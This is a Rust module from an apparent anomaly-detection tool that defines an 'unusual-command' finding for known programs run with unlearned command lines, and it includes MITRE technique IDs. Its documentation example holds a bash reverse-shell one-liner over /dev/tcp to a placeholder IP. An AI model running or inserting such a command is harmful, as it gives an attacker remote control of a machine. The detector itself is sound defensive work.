//! `unusual-command`: a process that the baseline knows, run with a command line that it was not learned with and that is
//! less probable than the policy's tolerance ([`crate::score`]). The finding says how improbable it is, which learned
//! commands are nearest, and what of it is strange.

use super::{
    page::{Page, Technique},
    words::subject,
};
use crate::{
    behaviour::{Behaviour, ProcessBehaviour},
    severity::Severity,
    text::shown,
};

pub(super) const ID: &str = "unusual-command";
pub(super) const SEVERITY: Severity = Severity::Medium;
pub(super) const PAGE: Page = Page {
    sees: "A command line of a program that the baseline knows, which is less like those that were learned of the \
           workload than `spec.tolerance` allows. It is scored by its words, their order and what it could do, and the \
           finding names the nearest learned commands and what made it strange.",
    why: "Whoever lives off what is installed anyway starts no new program: the shell and the interpreter are known, and \
          what they are told to do is not.",
    example: "`bash -c 'exec 3<>/dev/tcp/203.0.113.7/4444; cat <&3 | sh'`, where `bash -c 'date >> /var/log/beat'` was learned",
    tune: "`spec.tolerance.alertsPerWorkloadPerWeek` says how many of them a week a workload may raise by chance. Or \
           accept the finding: exactly that command is known from then on, and nothing near it.",
    techniques: &[
        Technique::new("T1059", "Command and Scripting Interpreter"),
        Technique::new("T1059.004", "Command and Scripting Interpreter: Unix Shell"),
    ],
};

pub(super) const fn fires(process: &ProcessBehaviour) -> bool {
    process.command().is_some()
}

pub(super) fn sentence(behaviour: &Behaviour) -> String {
    let command = match behaviour {
        Behaviour::Process(process) => process.command().unwrap_or_default(),
        Behaviour::Network(_) | Behaviour::Module(_) => "",
    };
    // It is escaped already: what `shown` does is to cut it.
    format!(
        "{} ran a command unlike those that were learned: {}",
        subject(behaviour),
        shown(command)
    )
}
